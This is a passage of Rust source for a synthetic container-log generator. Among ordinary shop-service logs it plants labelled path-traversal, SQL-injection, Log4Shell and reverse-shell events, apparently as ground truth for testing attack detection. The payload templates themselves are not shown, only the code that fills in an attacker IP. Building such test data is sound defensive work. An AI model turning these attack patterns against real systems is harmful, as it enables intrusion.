            let (search, _) = *self.fill.rng.pick(&self.fill.cluster.apps);
            self.text.s(app);
            self.text.push(b'.');
            self.text.s(ns);
            self.text.s(".svc.cluster.local.");
            self.text.s(search);
            self.text.s(".svc.cluster.local.");
            ("NXDOMAIN", "qr,aa,rd", false)
        } else {
            let host = *self.fill.rng.pick(EXTERNAL_HOSTS);
            self.text.s(host);
            self.text.push(b'.');
            ("NOERROR", "qr,rd,ra", true)
        };
        self.text.s(" udp ");
        self.text.u(self.fill.rng.range(40, 90));
        self.text.s(" false 512\" ");
        self.text.s(answer);
        self.text.push(b' ');
        self.text.s(flags);
        self.text.push(b' ');
        self.text.u(self.fill.rng.range(90, 320));
        self.text.push(b' ');
        let micros = if external {
            self.fill.rng.log_uniform(800.0, 60_000.0)
        } else {
            self.fill.rng.log_uniform(40.0, 900.0)
        } as u64;
        self.text.fixed(micros, 6);
        self.text.push(b's');
        self.emit(at, STDOUT, None)?;
        Ok(1)
    }

    fn logfmt(&mut self) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let level = self.level();
        self.text.clear();
        self.text.s("ts=");
        t.rfc3339(&mut self.text, 3);
        self.text.push(b' ');
        let template = match level {
            Level::Info => *self.fill.rng.pick(LOGFMT_INFO),
            Level::Warn => *self.fill.rng.pick(LOGFMT_WARN),
            Level::Error => *self.fill.rng.pick(LOGFMT_ERROR),
        };
        self.fill.expand(&mut self.text, template);
        self.emit(at, STDERR, None)?;
        Ok(1)
    }

    /// One line of 17–64 KB (ASCII), split by the runtime into 16 KiB pieces.
    fn long_line(&mut self) -> Result<u64, GenerateError> {
        let (at, t) = self.next();
        let size = self.fill.rng.log_uniform(17_000.0, 64_000.0) as usize;
        match self.fill.c.style {
            Style::Java => {
                self.java_prefix(&t, "DEBUG");
                self.java_logger("org.hibernate.SQL");
                self.text
                    .s("select p1_0.id,p1_0.sku,p1_0.price from product p1_0 where p1_0.id in (");
                while self.text.len() < size {
                    self.text
                        .u(1 + self.fill.rng.zipf(&self.fill.cluster.product_skew) as u64);
                    self.text.push(b',');
                }
                self.text.s("0)");
                self.emit(at, STDOUT, None)?;
            }
            Style::Python => {
                self.python_prefix(&t, "INFO");
                self.text.s("feature vector dump: {\"features\": [");
                while self.text.len() < size {
                    self.text.fixed(self.fill.rng.range(0, 99_999), 4);
                    self.text.s(", ");
                }
                self.text.s("0.0]}");
                self.emit(at, STDERR, None)?;
            }
            _ => {
                self.text.clear();
                self.text.s("{\"level\":\"info\",\"ts\":\"");
                t.rfc3339(&mut self.text, 3);
                self.text.s("\",\"caller\":\"httpserver/middleware.go:142\",\"msg\":\"request payload\",\"request_id\":\"");
                self.fill.rng.uuid(&mut self.text);
                self.text.s("\",\"body\":\"");
                let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                let n = size.saturating_sub(self.text.len() + 2);
                self.fill.rng.chars(&mut self.text, alphabet, n);
                self.text.s("\"}");
                self.emit(at, STDOUT, None)?;
            }
        }
        Ok(1)
    }

    /// An attack of a kind that fits the container; returns the events written.
    fn attack(&mut self, left: u64) -> Result<u64, GenerateError> {
        let pattern = *self.fill.rng.weighted(attack_pool(self.fill.c.style));
        let attack = self.truth.start();
        let attacker = self.fill.rng.pick(&self.fill.cluster.attacker_ips).clone();
        match pattern {
            Attack::Traversal | Attack::Sqli | Attack::Log4Shell => {
                let count = self.fill.rng.range(1, 4).min(left);
                let agent = *self.fill.rng.pick(SCANNER_AGENTS);
                for i in 0..count {
                    let (at, t) = if i == 0 {
                        self.next()
                    } else {
                        let at = self
                            .clock
                            .burst(&mut self.fill.rng, 20_000_000, 2_000_000_000);
                        (at, Civil::from_nanos(at))
                    };
                    let (path, agent, mark) = self.probe(pattern, attack, agent, &attacker);
                    self.scratch.clear();
                    self.scratch.s(path);
                    let status = *self.fill.rng.pick(&[404, 404, 400, 403, 200]);
                    let bytes = self.fill.rng.range(150, 600);
                    self.text.clear();
                    match self.fill.c.style {
                        Style::Ingress => {
                            let millis = self.fill.rng.range(1, 30);
                            self.ingress_line(
                                &t, &attacker, "GET", "frontend", status, bytes, millis, "-",
                                &agent,
                            );
                        }
                        _ => {
                            let client = if self.fill.c.style == Style::Nginx {
                                self.ingress_ip().to_owned()
                            } else {
                                attacker.clone()
                            };
                            self.combined(&t, &client, "GET", status, bytes, "-", &agent);
                        }
                    }
                    self.emit(at, STDOUT, Some(mark))?;
                }
                Ok(count)
            }
            Attack::AppSqli | Attack::AppLog4Shell => {
                let (at, t) = self.next();
                let &(payload, indicator) = if pattern == Attack::AppSqli {
                    self.fill.rng.pick(SQLI_LOGINS)
                } else {
                    self.fill.rng.pick(LOG4SHELL)
                };
                let user = payload.as_bytes().replace_ip(&attacker);
                let name = if pattern == Attack::AppSqli {
                    "web-sql-injection"
                } else {
                    "web-log4shell"
                };
                let mark = Mark {
                    attack,
                    pattern: name,
                    indicator,
                };
                if self.fill.c.style == Style::Java {
                    self.java_prefix(&t, " WARN");
                    self.java_logger("c.e.{pkg}.security.LoginService");
                    self.text.s("Login failed for user '");
                    self.text.extend_from_slice(&user);
                    self.text.s("' from ");
                    self.text.s(&attacker);
                } else {
                    self.text.clear();
                    self.text.s("{\"level\":\"warn\",\"ts\":\"");
                    t.rfc3339(&mut self.text, 3);
                    self.text.s("\",\"caller\":\"auth/login.go:77\",\"msg\":\"login failed\",\"request_id\":\"");
                    self.fill.rng.uuid(&mut self.text);
                    self.text.s("\",\"username\":\"");
                    json_str(&mut self.text, &user);
                    self.text.s("\",\"remote_addr\":\"");
                    self.text.s(&attacker);
                    self.text.s("\",\"reason\":\"invalid credentials\"}");
                }
                self.emit(at, STDOUT, Some(mark))?;
                Ok(1)
            }
            Attack::ReverseShell => {
                let (at, _) = self.next();
                let &(template, indicator) = self.fill.rng.pick(REVERSE_SHELLS);
                self.text.clear();
                self.text.s(template);
                let line = self.text.replace_ip(&attacker);
                self.text = line;
                let mark = Mark {
                    attack,
                    pattern: "reverse-shell",
                    indicator,
                };
                self.emit(at, STDERR, Some(mark))?;
                Ok(1)
            }
        }
    }

    /// A probe's path, user agent and mark.
    fn probe(
        &mut self,
        pattern: Attack,
        attack: u64,
        agent: &'static str,
        attacker: &str,
    ) -> (&'static str, String, Mark) {
        let (table, name) = match pattern {
            Attack::Traversal => (TRAVERSALS, "web-path-traversal"),
            Attack::Sqli => (SQLI_PATHS, "web-sql-injection"),
            _ => (LOG4SHELL, "web-log4shell"),
        };
        let &(payload, indicator) = self.fill.rng.pick(table);
        let mark = Mark {
            attack,
            pattern: name,
            indicator,
        };
        if pattern == Attack::Log4Shell {
            let agent = String::from_utf8(payload.as_bytes().replace_ip(attacker)).expect("utf-8");
            ("/", agent, mark)
        } else {
            (payload, agent.to_owned(), mark)
        }
    }
}

/// Replaces the `ATTACKER` marker of attack templates.
trait ReplaceIp {
    fn replace_ip(&self, ip: &str) -> Vec<u8>;
}

impl ReplaceIp for [u8] {
    fn replace_ip(&self, ip: &str) -> Vec<u8> {
        let text = String::from_utf8_lossy(self);
        text.replace("ATTACKER", ip).into_bytes()
    }
}

/// The kinds of requests in access logs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    Static,
    Page,
    Api,
    Health,
}

/// Application log levels.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Level {
    Info,
    Warn,
    Error,
}

impl Level {
    fn lower(self) -> &'static str {
        match self {
            Level::Info => "info",
            Level::Warn => "warn",
            Level::Error => "error",
        }
    }
}

/// Levels of application logs: info 82 %, warn 13 %, error 5 %.
const LEVELS: &[(Level, u32)] = &[(Level::Info, 82), (Level::Warn, 13), (Level::Error, 5)];

/// Attack patterns in container logs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attack {
    Traversal,
    Sqli,
    Log4Shell,
    AppSqli,
    AppLog4Shell,
    ReverseShell,
}

fn attack_pool(style: Style) -> &'static [(Attack, u32)] {
    match style {
        Style::Ingress | Style::Nginx | Style::Python => &[
            (Attack::Traversal, 3),
            (Attack::Sqli, 3),
            (Attack::Log4Shell, 2),
            (Attack::ReverseShell, 1),
        ],
        Style::GoJson | Style::Java => &[
            (Attack::AppSqli, 2),
            (Attack::AppLog4Shell, 2),
            (Attack::ReverseShell, 1),
        ],
        _ => &[(Attack::ReverseShell, 1)],
    }
}

/// Expected lines of one attack in a container of `style` (web probes come in bursts of 1–4).
fn mean_attack_len(style: Style) -> f64 {
    let pool = attack_pool(style);
    let total: u32 = pool.iter().map(|(_, w)| w).sum();
    pool.iter()
        .map(|&(attack, w)| {
            let len = match attack {
                Attack::Traversal | Attack::Sqli | Attack::Log4Shell => 2.5,
                _ => 1.0,
            };
            len * f64::from(w)
        })
        .sum::<f64>()
        / f64::from(total)
}

/// Method, path template, class, upstream app.
type PathEntry = (&'static str, &'static str, Class, &'static str);

const PATHS: &[(PathEntry, u32)] = &[
    (("GET", "/", Class::Page, "frontend"), 6),
    (
        ("GET", "/products?category={cat}", Class::Page, "frontend"),
        5,
    ),
    (
        (
            "GET",
            "/static/js/main.{asset}.js",
            Class::Static,
            "frontend",
        ),
        7,
    ),
    (
        (
            "GET",
            "/static/css/main.{asset}.css",
            Class::Static,
            "frontend",
        ),
        5,
    ),
    (
        (
            "GET",
            "/images/products/{id}.jpg",
            Class::Static,
            "frontend",
        ),
        10,
    ),
    (("GET", "/favicon.ico", Class::Static, "frontend"), 2),
    (
        (
            "GET",
            "/api/v1/products?category={cat}&page={page}",
            Class::Api,
            "catalog",
        ),
        9,
    ),
    (("GET", "/api/v1/products/{id}", Class::Api, "catalog"), 12),
    (("GET", "/api/v1/cart", Class::Api, "cart"), 6),
    (("POST", "/api/v1/cart/items", Class::Api, "cart"), 4),
    (("DELETE", "/api/v1/cart/items/{id}", Class::Api, "cart"), 1),
    (
        (
            "GET",
            "/api/v1/orders?page={page}",
            Class::Api,
            "orders-api",
        ),
        2,
    ),
    (
        ("GET", "/api/v1/orders/{order}", Class::Api, "orders-api"),
        3,
    ),
    (("POST", "/api/v1/orders", Class::Api, "orders-api"), 2),
    (("POST", "/api/v1/checkout", Class::Api, "orders-api"), 2),
    (("GET", "/api/v1/users/me", Class::Api, "auth-service"), 4),
    (
        ("POST", "/api/v1/auth/login", Class::Api, "auth-service"),
        2,
    ),
    (
        ("POST", "/api/v1/auth/refresh", Class::Api, "auth-service"),
        2,
    ),
    (
        (
            "PUT",
            "/api/v1/users/me/address",
            Class::Api,
            "auth-service",
        ),
        1,
    ),
    (("GET", "/search?q={term}", Class::Page, "frontend"), 4),
    (("GET", "/healthz", Class::Health, "frontend"), 3),
    (("GET", "/robots.txt", Class::Static, "frontend"), 1),
];

/// Status codes of static files.
const STATIC_STATUS: &[(u64, u32)] = &[
    (200, 7700),
    (304, 1900),
    (404, 300),
    (499, 50),
    (500, 20),
    (503, 30),
];

/// Status codes of pages and API calls.
const API_STATUS: &[(u64, u32)] = &[
    (200, 8700),
    (301, 50),
    (302, 150),
    (304, 100),
    (400, 150),
    (401, 250),
    (403, 80),
    (404, 250),
    (429, 60),
    (499, 40),
    (500, 80),
    (502, 40),
    (503, 30),
    (504, 20),
];

const USER_AGENTS: &[(&str, u32)] = &[
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36", 30),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36", 15),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1", 18),
    ("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.178 Mobile Safari/537.36", 12),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", 5),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.2277.128", 5),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 3),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 1),
    ("ShopApp/4.12.1 (Android 14) okhttp/4.12.0", 8),
    ("curl/8.5.0", 1),
    ("python-requests/2.31.0", 1),
    ("Go-http-client/2.0", 1),
];

const REFERERS: &[(&str, u32)] = &[
    ("-", 50),
    ("https://shop.example.com/", 25),
    ("https://shop.example.com/products?category=shoes", 10),
    ("https://www.google.com/", 15),
];

const CATEGORIES: &[&str] = &[
    "shoes",
    "jackets",
    "bags",
    "accessories",
    "kids",
    "outdoor",
    "sale",
    "new-arrivals",
];
const SEARCH_TERMS: &[&str] = &[
    "running+shoes",
    "rain+jacket",
    "backpack",
    "gift+card",
    "wool+socks",
    "sneakers+white",
    "caf%C3%A9+mug",
    "yoga+mat",
];
const ASSET_HASHES: &[&str] = &["3f9a1c2e", "b81d07aa", "5e2c9f10"];
const USER_NAMES: &[&str] = &[
    "u_10482", "u_77311", "u_20931", "u_55120", "u_90017", "u_31337",
];
const EXTERNAL_HOSTS: &[&str] = &[
    "api.stripe.com",
    "sqs.eu-west-1.amazonaws.com",
    "oauth2.googleapis.com",
    "hooks.slack.com",
    "registry-1.docker.io",
];

const NGINX_ERRORS: &[((&str, &str), u32)] = &[
    (("error", "upstream timed out (110: Operation timed out) while reading response header from upstream"), 30),
    (("error", "connect() failed (111: Connection refused) while connecting to upstream"), 20),
    (("error", "open() \"/usr/share/nginx/html/wp-login.php\" failed (2: No such file or directory)"), 15),
    (("warn", "a client request body is buffered to a temporary file /var/cache/nginx/client_temp/00000{n5}"), 20),
    (("warn", "an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/1/{n2}/00000{n5}"), 10),
    (("info", "client closed connection while waiting for request"), 5),
];

const KLOG_INFO: &[&str] = &[
    "event.go:364] Event(v1.ObjectReference{Kind:\"Ingress\", Namespace:\"shop\", Name:\"shop\", UID:\"{uuid}\", APIVersion:\"networking.k8s.io/v1\", ResourceVersion:\"{n5}{n3}\", FieldPath:\"\"}): type: 'Normal' reason: 'Sync' Scheduled for sync",
    "controller.go:190] \"Configuration changes detected, backend reload required\"",
    "controller.go:210] \"Backend successfully reloaded\"",
    "status.go:304] \"updating Ingress status\" namespace=\"shop\" ingress=\"shop\" currentValue=null newValue=[{\"hostname\":\"a{hex12}.elb.eu-west-1.amazonaws.com\"}]",
];
const KLOG_WARN: &[&str] = &[
    "controller.go:1216] Service \"{ns}/{app}\" does not have any active Endpoint.",
    "controller.go:1107] Error obtaining Endpoints for Service \"shop/cart\": no object matching key \"shop/cart\" in local store",
];

/// zap callers, messages and extra fields (`{request}`: method, path, status...).
const GO_INFO: &[((&str, &str, &str), u32)] = &[
    (
        (
            "httpserver/middleware.go:87",
            "request completed",
            "{request}",
        ),
        70,
    ),
    (
        (
            "{pkg}/service.go:{n3}",
            "order created",
            ",\"order_id\":\"{order}\",\"user_id\":\"{user}\",\"items\":{n2},\"amount_cents\":{n5}",
        ),
        10,
    ),
    (
        (
            "events/publisher.go:64",
            "published event",
            ",\"topic\":\"{pkg}.events\",\"partition\":{n2},\"offset\":{n5}{n3}",
        ),
        10,
    ),
    (
        (
            "cache/refresh.go:41",
            "cache refreshed",
            ",\"entries\":{n4},\"took_ms\":{n3}",
        ),
        5,
    ),
    (
        (
            "auth/login.go:52",
            "login succeeded",
            ",\"user_id\":\"{user}\",\"mfa\":true",
        ),
        5,
    ),
];
const GO_WARN: &[((&str, &str, &str), u32)] = &[
    (("httpserver/middleware.go:87", "request completed", "{request}"), 50),
    (("httpserver/middleware.go:96", "slow request", ",\"path\":\"/v1/orders\",\"duration_ms\":{n4}.{n3}"), 15),
    (("client/retry.go:58", "retrying upstream call", ",\"upstream\":\"http://{svc}.svc.cluster.local:8080\",\"attempt\":2,\"backoff_ms\":{n3}"), 15),
    (("auth/token.go:112", "token expired", ",\"user_id\":\"{user}\",\"expired_for_s\":{n4}"), 10),
    (("ratelimit/limiter.go:33", "rate limit exceeded", ",\"client\":\"{ip}\",\"limit\":100"), 10),
];
const GO_ERROR: &[((&str, &str, &str), u32)] = &[
    (("httpserver/middleware.go:87", "request completed", "{request}"), 30),
    (("events/publisher.go:71", "failed to publish event", ",\"topic\":\"{pkg}.events\",\"error\":\"kafka: client has run out of available brokers to talk to\""), 25),
    (("store/postgres.go:{n3}", "database query failed", ",\"error\":\"pq: canceling statement due to statement timeout\",\"query\":\"SelectOrderByID\""), 25),
    (("client/http.go:140", "upstream call failed", ",\"upstream\":\"http://{svc}.svc.cluster.local:8080\",\"error\":\"context deadline exceeded\""), 20),
];
/// zap's `stacktrace` field, already JSON-escaped.
const GO_STACKTRACE: &str = "github.com/example/{app}/internal/{pkg}.(*Service).Handle\\n\\t/app/internal/{pkg}/service.go:{n3}\\ngithub.com/example/{app}/internal/httpserver.(*Server).wrap.func1\\n\\t/app/internal/httpserver/middleware.go:81\\nnet/http.HandlerFunc.ServeHTTP\\n\\t/usr/local/go/src/net/http/server.go:2166";
const GO_PANICS: &[&str] = &[
    "runtime error: invalid memory address or nil pointer dereference",
    "runtime error: index out of range [3] with length 3",
    "assignment to entry in nil map",
];
const GO_PANIC_FRAMES: &[&str] = &[
    "goroutine {n5} [running]:",
    "net/http.(*conn).serve.func1()",
    "\t/usr/local/go/src/net/http/server.go:1898 +0xbe",
    "panic({0x9c1e60?, 0xf2a5d0?})",
    "\t/usr/local/go/src/runtime/panic.go:770 +0x132",
    "github.com/example/{app}/internal/{pkg}.(*Handler).Get(0xc000{hex4}000, {0xb3b0f0, 0xc0004be0e0}, 0xc0002fc000)",
    "\t/app/internal/{pkg}/handler.go:{n3} +0x1d4",
    "net/http.HandlerFunc.ServeHTTP(0xc000112340?, {0xb3b0f0?, 0xc0004be0e0?}, 0x0?)",
    "\t/usr/local/go/src/net/http/server.go:2166 +0x29",
    "github.com/go-chi/chi/v5.(*Mux).routeHTTP(0xc0000c8060, {0xb3b0f0, 0xc0004be0e0}, 0xc0002fc000)",
    "\t/go/pkg/mod/github.com/go-chi/chi/v5@v5.0.12/mux.go:459 +0x2c2",
    "net/http.serverHandler.ServeHTTP({0xc00019e0c0?}, {0xb3b0f0?, 0xc0004be0e0?}, 0x6?)",
    "\t/usr/local/go/src/net/http/server.go:3137 +0x8e",
    "net/http.(*conn).serve(0xc0001a6000, {0xb3c2a8, 0xc00011e0f0})",
    "\t/usr/local/go/src/net/http/server.go:2039 +0x5e8",
    "created by net/http.(*Server).Serve in goroutine 1",
    "\t/usr/local/go/src/net/http/server.go:3285 +0x4b4",
];

const JAVA_INFO: &[((&str, &str), u32)] = &[
    (
        (
            "c.e.{pkg}.web.ApiController            ",
            "Handled GET /api/v1/{pkg}/{id} in {n2} ms",
        ),
        40,
    ),
    (
        (
            "c.e.{pkg}.service.PriceService         ",
            "Price cache refreshed: {n4} entries",
        ),
        10,
    ),
    (
        (
            "c.e.{pkg}.service.InventoryService     ",
            "Reserved {n2} units of SKU-{n5} for order {order}",
        ),
        20,
    ),
    (
        (
            "o.s.k.l.KafkaMessageListenerContainer  ",
            "{pkg}-consumer: partitions assigned: [{pkg}.events-0, {pkg}.events-1]",
        ),
        5,
    ),
    (
        (
            "c.e.{pkg}.api.PaymentController        ",
            "Payment authorized paymentId=pay_{hex12} amount={n3}.{n2} currency=EUR",
        ),
        20,
    ),
    (
        (
            "o.s.b.a.l.ConditionEvaluationReportLog ",
            "Condition evaluation unchanged",
        ),
        5,
    ),
];
const JAVA_WARN: &[((&str, &str), u32)] = &[
    (("com.zaxxer.hikari.pool.HikariPool      ", "HikariPool-1 - Thread starvation or clock leap detected (housekeeper delta={n2}s{n3}ms)."), 30),
    (("o.a.k.clients.NetworkClient            ", "[Producer clientId=producer-1] Node -1 disconnected."), 25),
    (("c.e.{pkg}.service.PriceService         ", "Price for SKU-{n5} is stale ({n3} s old), serving cached value"), 25),
    (("o.h.engine.jdbc.spi.SqlExceptionHelper ", "SQL Error: 0, SQLState: 57014"), 20),
];
const JAVA_ERROR_LOGGER: &str = "o.a.c.c.C.[.[.[/].[dispatcherServlet]    ";
const JAVA_EXCEPTIONS: &[(&str, &str)] = &[
    ("java.lang.IllegalStateException", "Inventory reservation failed for SKU-{n5}"),
    ("java.lang.NullPointerException", "Cannot invoke \"com.example.{pkg}.model.Price.getAmount()\" because \"price\" is null"),
    ("org.springframework.dao.DataAccessResourceFailureException", "Unable to acquire JDBC Connection"),
    ("java.net.SocketTimeoutException", "Read timed out"),
    ("com.fasterxml.jackson.databind.exc.InvalidFormatException", "Cannot deserialize value of type `java.math.BigDecimal` from String \"N/A\": not a valid representation"),
];
const JAVA_APP_FRAMES: &[&str] = &[
    "\tat com.example.{pkg}.repository.JdbcRepository.find(JdbcRepository.java:{n3})",
    "\tat com.example.{pkg}.service.InventoryService.reserve(InventoryService.java:{n3})",
    "\tat com.example.{pkg}.service.InventoryService$$SpringCGLIB$$0.reserve(<generated>)",
    "\tat com.example.{pkg}.web.ApiController.handle(ApiController.java:{n3})",
    "\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)",
    "\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)",
];
const JAVA_FRAMEWORK_FRAMES: &[&str] = &[
    "\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)",
    "\tat org.springframework.web.method.support.InvocableHandlerMethod.invokeForRequest(InvocableHandlerMethod.java:188)",
    "\tat org.springframework.web.servlet.mvc.method.annotation.ServletInvocableHandlerMethod.invokeAndHandle(ServletInvocableHandlerMethod.java:118)",
    "\tat org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerAdapter.invokeHandlerMethod(RequestMappingHandlerAdapter.java:926)",
    "\tat org.springframework.web.servlet.DispatcherServlet.doDispatch(DispatcherServlet.java:1089)",
    "\tat org.springframework.web.servlet.DispatcherServlet.doService(DispatcherServlet.java:979)",
    "\tat org.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:1014)",
    "\tat jakarta.servlet.http.HttpServlet.service(HttpServlet.java:590)",
    "\tat org.apache.catalina.core.ApplicationFilterChain.internalDoFilter(ApplicationFilterChain.java:205)",
    "\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:149)",
    "\tat org.springframework.web.filter.OncePerRequestFilter.doFilter(OncePerRequestFilter.java:116)",
    "\tat org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:167)",
    "\tat org.apache.catalina.core.StandardContextValve.invoke(StandardContextValve.java:90)",
    "\tat org.apache.catalina.connector.CoyoteAdapter.service(CoyoteAdapter.java:340)",
    "\tat org.apache.coyote.http11.Http11Processor.service(Http11Processor.java:391)",
    "\tat org.apache.tomcat.util.net.NioEndpoint$SocketProcessor.doRun(NioEndpoint.java:1744)",
    "\tat org.apache.tomcat.util.threads.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1191)",
    "\tat org.apache.tomcat.util.threads.TaskThread$WrappingRunnable.run(TaskThread.java:63)",
    "\tat java.base/java.lang.Thread.run(Thread.java:1583)",
];
const JAVA_CAUSES: &[(&str, &str, &[&str])] = &[
    (
        "org.postgresql.util.PSQLException",
        "ERROR: canceling statement due to statement timeout",
        &[
            "\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2725)",
            "\tat org.postgresql.core.v3.QueryExecutorImpl.processResults(QueryExecutorImpl.java:2412)",
            "\tat org.postgresql.jdbc.PgStatement.executeInternal(PgStatement.java:517)",
        ],
    ),
    (
        "java.net.ConnectException",
        "Connection refused",
        &[
            "\tat java.base/sun.nio.ch.Net.pollConnect(Native Method)",
            "\tat java.base/sun.nio.ch.NioSocketImpl.timedFinishConnect(NioSocketImpl.java:554)",
        ],
    ),
];

const ADMIN_PATHS: &[(&str, &str, Class)] = &[
    ("GET", "/admin/", Class::Page),
    ("GET", "/admin/orders/?page={page}", Class::Page),
    ("GET", "/admin/orders/{order}/change/", Class::Page),
    ("POST", "/admin/orders/{order}/change/", Class::Page),
    ("GET", "/static/admin/css/base.css", Class::Static),
    ("GET", "/api/reports/daily?date=2024-01-{n2}", Class::Api),
    ("GET", "/healthz", Class::Health),
];
const SCORING_PATHS: &[(&str, &str, Class)] = &[
    ("POST", "/score", Class::Api),
    ("POST", "/score", Class::Api),
    ("POST", "/score", Class::Api),
    ("GET", "/model/info", Class::Api),
    ("GET", "/healthz", Class::Health),
];
const GUNICORN: &[&str] = &[
    "[{pid}] [INFO] Booting worker with pid: {pid}",
    "[1] [WARNING] Worker with pid {pid} was terminated due to signal 9",
    "[1] [CRITICAL] WORKER TIMEOUT (pid:{pid})",
];
const PYTHON_INFO: &[&str] = &[
    "scored txn=txn_{hex12} score=0.0{n3} model=v12 in {n2}ms",
    "feature store lookup hit ratio=0.9{n2} keys={n3}",
    "report generated date=2024-01-{n2} rows={n4}",
    "user {user} logged in from {ip}",
];
const PYTHON_WARN: &[&str] = &[
    "feature store lookup slow: {n3}ms",
    "model v12 drift score 0.{n2} above threshold 0.15",
    "retrying request to http://{svc}.svc.cluster.local:8080 (attempt 2)",
];
const PYTHON_FRAMES: &[&str] = &[
    "  File \"/usr/local/lib/python3.12/site-packages/flask/app.py\", line 1463, in wsgi_app",
    "    response = self.full_dispatch_request()",
    "  File \"/usr/local/lib/python3.12/site-packages/flask/app.py\", line 872, in full_dispatch_request",
    "    rv = self.handle_user_exception(e)",
    "  File \"/usr/local/lib/python3.12/site-packages/flask/app.py\", line 870, in full_dispatch_request",
    "    rv = self.dispatch_request()",
    "  File \"/usr/local/lib/python3.12/site-packages/flask/app.py\", line 855, in dispatch_request",
    "    return self.ensure_sync(self.view_functions[rule.endpoint])(**view_args)",
];
const PYTHON_ERRORS: &[(&str, &[&str])] = &[
    (
        "KeyError: 'amount'",
        &[
            "  File \"/app/{pkg}/api.py\", line 57, in score",
            "    features = build_features(payload)",
            "  File \"/app/{pkg}/features.py\", line 112, in build_features",
            "    amount = float(payload[\"amount\"])",
        ],
    ),
    (
        "ValueError: could not convert string to float: 'N/A'",
        &[
            "  File \"/app/{pkg}/features.py\", line 118, in build_features",
            "    ratio = float(payload[\"ratio\"])",
        ],
    ),
    (
        "psycopg2.OperationalError: server closed the connection unexpectedly",
        &[
            "  File \"/app/{pkg}/db.py\", line 31, in fetch_history",
            "    cur.execute(HISTORY_SQL, (customer_id,))",
        ],
    ),
    (
        "redis.exceptions.ConnectionError: Error 111 connecting to redis.data.svc.cluster.local:6379. Connection refused.",
        &[
            "  File \"/app/{pkg}/cache.py\", line 22, in get",
            "    return self.client.get(key)",
        ],
    ),
];
const CELERY_INFO: &[&str] = &[
    ": INFO/MainProcess] Task checkout.tasks.send_receipt[{uuid}] received",
    ": INFO/ForkPoolWorker-{n2}] Task checkout.tasks.send_receipt[{uuid}] succeeded in 0.0{n3}s: None",
    ": INFO/ForkPoolWorker-{n2}] Task checkout.tasks.charge_payment[{uuid}] succeeded in 0.{n3}s: {'status': 'captured'}",
];
const CELERY_WARN: &[&str] = &[
    ": WARNING/ForkPoolWorker-{n2}] Task checkout.tasks.charge_payment[{uuid}] retry: Retry in 30s: ConnectionError('payments-api unavailable')",
];
const CELERY_ERROR: &str =
    ": ERROR/ForkPoolWorker-{n2}] Task checkout.tasks.charge_payment[{uuid}] raised unexpected: KeyError('amount')";

const POSTGRES_LOG: &[&str] = &[
    "LOG:  checkpoint starting: time",
    "LOG:  checkpoint complete: wrote {n3} buffers (0.{n2}%); 0 WAL file(s) added, 0 removed, 1 recycled; write={n2}.{n3} s, sync=0.0{n2} s, total={n2}.{n3} s; sync files={n2}, longest=0.0{n2} s, average=0.00{n2} s; distance={n4} kB, estimate={n4} kB; lsn=0/{hex8}, redo lsn=0/{hex8}",
    "LOG:  automatic vacuum of table \"shop.public.orders\": index scans: 1",
    "LOG:  duration: {n4}.{n3} ms  statement: SELECT o.id, o.status, o.total FROM orders o WHERE o.customer_id = $1 ORDER BY o.created_at DESC LIMIT 50",
    "LOG:  connection received: host={ip} port={port}",
    "LOG:  connection authorized: user=app database=shop application_name=PostgreSQL JDBC Driver",
];
const POSTGRES_FATAL: &[&str] = &[
    "FATAL:  password authentication failed for user \"reporting\"",
    "FATAL:  terminating connection due to idle-session timeout",
    "WARNING:  there is no transaction in progress",
];
const POSTGRES_ERRORS: &[(&str, &str, &str)] = &[
    (
        "ERROR:  duplicate key value violates unique constraint \"orders_pkey\"",
        "DETAIL:  Key (id)=({order}) already exists.",
        "STATEMENT:  INSERT INTO orders (id, customer_id, status, total) VALUES ($1, $2, $3, $4)",
    ),
    (
        "ERROR:  canceling statement due to statement timeout",
        "",
        "STATEMENT:  SELECT * FROM order_items WHERE order_id = ANY($1)",
    ),
    (
        "ERROR:  deadlock detected",
        "DETAIL:  Process {pid} waits for ShareLock on transaction {n5}; blocked by process {pid}.",
        "STATEMENT:  UPDATE inventory SET reserved = reserved + $1 WHERE sku = $2",
    ),
];
const REDIS_OTHER: &[&str] = &[
    "# WARNING Memory overcommit must be enabled! Without it, a background save or replication may fail under low memory condition.",
    "* Replica {ip}:6379 asks for synchronization",
    "* Synchronization with replica {ip}:6379 succeeded",
    "# Connection with replica {ip}:6379 lost.",
];
const REDIS_SAVE: &[(bool, &str)] = &[
    (false, "* 10000 changes in 60 seconds. Saving..."),
    (false, "* Background saving started by pid {pid}"),
